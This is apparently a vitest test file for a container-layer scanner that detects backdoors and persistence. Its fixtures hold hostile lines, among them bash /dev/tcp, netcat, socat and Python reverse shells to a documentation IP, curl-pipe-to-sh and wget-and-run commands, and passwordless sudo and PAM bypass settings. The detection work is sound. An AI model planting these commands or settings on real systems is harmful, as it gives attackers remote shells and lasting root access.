import { describe, expect, it } from 'vitest';
import { debianLayer, file, foundIn, idsIn, scanLayers } from '../../../test/support/persistence.ts';
import type { TarEntry } from '../../../test/support/tar.ts';

const shell = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
const fetches = 'curl -s http://192.0.2.1/x | sh';
const key = `ssh-ed25519 ${'A'.repeat(68)} someone@example.org`;

/** A file that has what the rule is about, and one that only looks so. */
const places: readonly (readonly [rule: string, bad: readonly TarEntry[], good: readonly TarEntry[]])[] = [
  [
    'backdoor-command',
    [file('root/.bashrc', `alias a=b\n${shell}\n`)],
    [file('root/.bashrc', 'timeout 1 bash -c "echo > /dev/null"\n')],
  ],
  [
    'backdoor-command',
    [file('etc/cron.d/x', `* * * * * root ${shell}\n`)],
    [file('etc/cron.d/x', '* * * * * root /usr/bin/x\n')],
  ],
  [
    'backdoor-command',
    [
      file(
        'etc/rc.local',
        '#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 1 > /tmp/f\n',
      ),
    ],
    [file('etc/rc.local', '#!/bin/sh\nnc -z db 5432\n')],
  ],
  [
    'backdoor-command',
    [file('etc/hosts.allow', `ALL: ALL: spawn (bash -c "${shell}") &\n`)],
    [file('etc/hosts.allow', 'ALL: 192.0.2.0/24\n')],
  ],
  [
    'backdoor-command',
    [file('etc/inetd.conf', 'daytime stream tcp nowait root /bin/sh sh -i\n')],
    [file('etc/inetd.conf', 'daytime stream tcp nowait root internal\n')],
  ],
  [
    'backdoor-command',
    [file('etc/xinetd.d/x', 'service x\n{\n server = /bin/bash\n}\n')],
    [file('etc/xinetd.d/x', 'service x\n{\n disable = yes\n server = /bin/bash\n}\n')],
  ],
  [
    'backdoor-command',
    [file('etc/systemd/system/x.service', `[Service]\nExecStart=/bin/bash -c "${shell}"\n`)],
    [file('etc/systemd/system/x.service', '[Service]\nExecStart=/usr/bin/x\n')],
  ],
  [
    'backdoor-command',
    [file('etc/profile.d/x.sh', 'socat exec:"bash -li",pty tcp:192.0.2.1:1\n')],
    [file('etc/profile.d/x.sh', 'export A=/dev/tcp/x\n')],
  ],
  [
    'backdoor-command',
    [
      file(
        'usr/lib/python3/dist-packages/sitecustomize.py',
        'import socket,os\ns = socket.socket()\ns.connect(("192.0.2.1",1))\nos.dup2(s.fileno(),0)\n',
      ),
    ],
    [file('usr/lib/python3/dist-packages/sitecustomize.py', 'import sys\n')],
  ],
  [
    'download-and-run',
    [file('etc/cron.daily/x', `#!/bin/sh\n${fetches}\n`)],
    [file('etc/cron.daily/x', '#!/bin/sh\ncurl -s http://192.0.2.1/x > /var/log/x\n')],
  ],
  [
    'download-and-run',
    [file('root/.profile', 'eval "$(echo aWQ= | base64 -d)"\n')],
    [file('root/.profile', 'echo aWQ= | base64 -d > /tmp/x\n')],
  ],
  [
    'download-and-run',
    [file('etc/init.d/x', '#!/bin/sh\nwget -q http://192.0.2.1/a -O /opt/a\nchmod +x /opt/a\n/opt/a\n')],
    [file('etc/init.d/x', '#!/bin/sh\nwget -q http://192.0.2.1/a -O /opt/a\n/opt/b\n')],
  ],
  [
    'runs-from-temporary',
    [file('etc/rc.local', '#!/bin/sh\n/tmp/x &\n')],
    [file('etc/rc.local', '#!/bin/sh\nrm -rf /tmp/x\n')],
  ],
  [
    'cron-entry',
    [file('var/spool/cron/crontabs/root', '@daily /x\n')],
    [file('var/spool/cron/crontabs/root', '# nothing\nMAILTO=root\n')],
  ],
  [
    'systemd-unit',
    [file('etc/systemd/system/x.service', '[Service]\nExecStart=/x\n')],
    [file('etc/systemd/system/x.target', '[Unit]\nDescription=x\n')],
  ],
  ['init-script', [file('etc/init.d/x', '#!/bin/sh\n:\n')], [file('etc/init/x', '#!/bin/sh\n:\n')]],
  ['shell-startup', [file('etc/profile.d/x.sh', 'PATH=/x:$PATH\n')], [file('etc/profile.e/x.sh', 'PATH=/x:$PATH\n')]],
  ['ld-so-preload', [file('etc/ld.so.preload', '/usr/lib/x.so\n')], [file('etc/ld.so.preload', '# /usr/lib/x.so\n')]],
  ['linker-path', [file('etc/ld.so.conf.d/x.conf', '/tmp/lib\n')], [file('etc/ld.so.conf.d/x.conf', '/opt/lib\n')]],
  [
    'pam-exec',
    [file('etc/pam.d/sshd', 'auth optional pam_exec.so expose_authtok /x\n')],
    [file('etc/pam.d/sshd', 'auth required pam_unix.so\n')],
  ],
  [
    'pam-lets-in',
    [file('etc/pam.d/su', 'auth sufficient pam_permit.so\n')],
    [file('etc/pam.d/su', 'session optional pam_permit.so\nauth sufficient pam_rootok.so\n')],
  ],
  [
    'pam-module',
    [file('etc/pam.d/su', 'auth required /opt/x/pam_x.so\n')],
    [file('etc/pam.d/su', 'auth required /lib/x86_64-linux-gnu/security/pam_x.so\n')],
  ],
  [
    'pam-changed',
    [file('etc/pam.d/su', 'auth required pam_unix.so\n')],
    [file('etc/pam.d/common-auth', 'auth required pam_unix.so\n')],
  ],
  ['pam-module-unowned', [file('usr/lib/security/pam_x.so', 'x')], [file('usr/lib/security/readme', 'x')]],
  [
    'authorized-key',
    [file('home/x/.ssh/authorized_keys', `${key}\n`)],
    [file('home/x/.ssh/known_hosts', `example.org ${key}\n`)],
  ],
  [
    'sudoers-without-password',
    [file('etc/sudoers.d/x', 'app ALL=(ALL) NOPASSWD: ALL\n')],
    [file('etc/sudoers.d/x', 'app ALL=(ALL) NOPASSWD: /usr/bin/systemctl-x restart\n')],
  ],
  [
    'sudoers-without-password',
    [file('etc/sudoers.d/x', 'app ALL=(root) NOPASSWD: /usr/bin/vim.basic\n')],
    [file('etc/sudoers.d/x', '%sudo ALL=(ALL:ALL) ALL\nroot ALL=(ALL) ALL\n')],
  ],
  [
    'sudoers-without-password',
    [file('etc/sudoers', 'Defaults !authenticate\n')],
    [file('etc/sudoers', 'Defaults env_reset\n')],
  ],
  [
    'sudoers-everything',
    [file('etc/sudoers', 'app ALL=(ALL) \\\n ALL\n')],
    [file('etc/sudoers', '%wheel ALL=(ALL) ALL\n')],
  ],
  [
    'network-service-hook',
    [file('etc/hosts.deny', 'ALL: ALL: twist /x\n')],
    [file('etc/hosts.deny', 'ALL: PARANOID\n')],
  ],
  [
    'udev-command',
    [file('etc/udev/rules.d/9.rules', 'SUBSYSTEM=="net", RUN+="/x"\n')],
    [file('etc/udev/rules.d/9.rules', 'SUBSYSTEM=="net", NAME="x"\n')],
  ],
  ['motd-script', [file('etc/update-motd.d/9', '#!/bin/sh\necho x\n')], [file('etc/motd', 'x\n')]],
  [
    'package-manager-hook',
    [file('etc/apt/apt.conf.d/9', 'DPkg::Post-Invoke { "/x"; };\n')],
    [file('etc/apt/apt.conf.d/9', 'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };\n')],
  ],
  [
    'package-manager-hook',
    [file('etc/dpkg/dpkg.cfg.d/9', 'post-invoke=/x\n')],
    [file('etc/dpkg/dpkg.cfg.d/9', 'path-exclude /usr/share/doc/*\n')],
  ],
  [
    'environment-loads',
    [file('etc/environment', 'LD_PRELOAD=/x.so\n')],
    [file('etc/environment', 'PATH=/usr/bin\nNODE_OPTIONS=--max-old-space-size=1\n')],
  ],
  [
    'python-startup-code',
    [file('opt/v/lib/python3/site-packages/x.pth', 'import os; exec(__import__("base64").b64decode("x"))\n')],
    [file('opt/v/lib/python3/site-packages/x.pth', '/opt/code\n')],
  ],
  [
    'python-startup',
    [file('opt/v/lib/python3/site-packages/x.pth', 'import x_hook\n')],
    [file('opt/v/lib/python3/site-packages/x.pth', 'import _virtualenv\n')],
  ],
  [
    'git-hook',
    [file('srv/.git/hooks/post-checkout', '#!/bin/sh\n:\n')],
    [file('srv/.git/hooks/post-checkout.sample', '#!/bin/sh\n:\n')],
  ],
  ['sshd-replaced', [file('usr/sbin/sshd', '#!/usr/bin/perl\n')], [file('usr/sbin/sshd', '\x7fELF\x02\x01')]],
  [
    'login-leads-to-sshd',
    [{ path: 'tmp/su', type: 'symlink', linkTarget: '/usr/sbin/sshd' }],
    [{ path: 'usr/bin/su', type: 'symlink', linkTarget: 'busybox' }],
  ],
  [
    'sshd-lets-in',
    [file('etc/ssh/sshd_config', 'PermitRootLogin yes\n')],
    [
      file(
        'etc/ssh/sshd_config',
        'PermitRootLogin prohibit-password\n#PermitEmptyPasswords yes\nAuthorizedKeysFile .ssh/authorized_keys\n',
      ),
    ],
  ],
  ['rootkit-file', [file('usr/bin/bsd-port/getty', 'x')], [file('usr/sbin/getty', 'x')]],
  ['rootkit-file', [file('usr/lib/libns2.so', 'x')], [file('usr/lib/libnss.so', 'x')]],
  ['rootkit-file', [file('usr/local/lib/libprocesshider.so', 'x')], [file('usr/local/lib/libprocess.so', 'x')]],
  [
    'file-among-devices',
    [file('dev/shm/.x', 'x')],
    [{ path: 'dev/null', type: 'character', deviceMajor: 1, deviceMinor: 3 }],
  ],
  ['engine-socket', [file('run/docker.sock', '')], [file('run/docker.pid', '1')]],
  ['left-over', [{ path: 'app/.git', type: 'directory' }], [{ path: 'app/node_modules/x/.git', type: 'directory' }]],
  ['left-over', [file('app/Dockerfile', 'x')], [file('app/node_modules/x/Dockerfile', 'x')]],
  [
    'service-password-guessed',
    [
      file(
        'opt/t/conf/tomcat-users.xml',
        '<tomcat-users>\n<user username="admin" password="tomcat" roles="manager-gui"/>\n</tomcat-users>',
      ),
    ],
    [
      file(
        'opt/t/conf/tomcat-users.xml',
        '<tomcat-users><!--\n<user username="admin" password="tomcat" roles="manager-gui"/>\n--></tomcat-users>',
      ),
    ],
  ],
  [
    'service-password-guessed',
    [file('etc/redis/redis.conf', 'requirepass redis\n')],
    [file('etc/redis/redis.conf', 'requirepass f8Kq02mXlw\n')],
  ],
  [
    'service-open',
    [file('etc/redis/redis.conf', 'protected-mode no\n')],
    [file('etc/redis/redis.conf', 'protected-mode no\nrequirepass f8Kq02mXlw\n')],
  ],
  [
    'service-open',
    [file('etc/mysql/my.cnf', '[mysqld]\nskip_grant_tables\n')],
    [file('etc/mysql/my.cnf', '[mysqld]\nskip-name-resolve\n')],
  ],
  [
    'service-open',
    [file('etc/vsftpd.conf', 'anonymous_enable=YES\nwrite_enable=YES\nanon_upload_enable=YES\n')],
    [file('etc/vsftpd.conf', 'anonymous_enable=NO\nwrite_enable=YES\n')],
  ],
  [
    'service-open',
    [file('etc/proftpd/proftpd.conf', '<Anonymous ~ftp>\n</Anonymous>\n')],
    [file('etc/proftpd/proftpd.conf', '# <Anonymous ~ftp>\n')],
  ],
];

describe('files at places where things start by themselves', () => {
  it.each(places)('%s: %j is told, %j is not', async (rule, bad, good) => {
    expect(await idsIn(bad)).toContain(rule);
    expect(await idsIn(good)).not.toContain(rule);
  });

  it('are no finding as a package brought them, and are one once a layer changed them', async () => {
    const brought = debianLayer({ 'etc/cron.d/tool': '* * * * * root /usr/bin/tool\n' });

    expect(await idsIn(brought)).toEqual([]);
    expect(await foundIn(brought, [file('etc/cron.d/tool', '* * * * * root /usr/bin/other\n')])).toMatchObject([
      {
        id: 'cron-entry',
        layer: { index: 1 },
        location: { path: 'etc/cron.d/tool', line: 1 },
        evidence: '/etc/cron.d/tool has cron run /usr/bin/other. It is not as the package tool brought it.',
      },
    ]);
  });

  it('are told with less confidence where a package brought a back door', async () => {
    expect(await foundIn(debianLayer({ 'etc/cron.d/tool': `* * * * * root ${shell}\n` }))).toMatchObject([
      { id: 'backdoor-command', severity: 'critical', confidence: 'medium' },
    ]);
  });

  it('are told with the layer that hides them, where they are grave', async () => {
    const gone: TarEntry = { path: 'etc/cron.d/.wh.x' };
    const findings = await foundIn([file('etc/cron.d/x', `* * * * * root ${shell}\n`)], [gone]);

    expect(findings).toMatchObject([{ id: 'backdoor-command', layer: { index: 0 }, hiddenBy: { index: 1 } }]);
  });

  it('are found through links of files and of directories', async () => {
    const findings = await foundIn([
      { path: 'etc/ld.so.preload', type: 'symlink', linkTarget: '/opt/a' },
      file('opt/a', '/usr/lib/x.so\n'),
      { path: 'etc/cron.d', type: 'symlink', linkTarget: '/opt/b' },
      file('opt/b/x', `* * * * * root ${shell}\n`),
    ]);

    expect(findings.map(({ id }) => id).sort()).toEqual(['backdoor-command', 'cron-entry', 'ld-so-preload']);
  });

  it('name no secret', async () => {
    const token = `ghp_${'aB3dE5gH7jK9'.repeat(3)}`;
    const report = await scanLayers([
      [
        file(
          'etc/cron.d/x',
          `* * * * * root curl -H "Authorization: token ${token}" -u a:${token} https://example.org | sh\n`,
        ),
      ],
    ]);

    expect(report.findings.map(({ id }) => id)).toContain('download-and-run');
    expect(JSON.stringify(report)).not.toContain(token.slice(8, 30));
  });

  it('that are cut off are named', async () => {
    const { problems } = await scanLayers([[file('root/.bashrc', `# ${'x'.repeat(300_000)}\n`)]]);

    expect(problems).toContainEqual(expect.objectContaining({ code: 'file.too-large', path: 'root/.bashrc' }));
  });
});
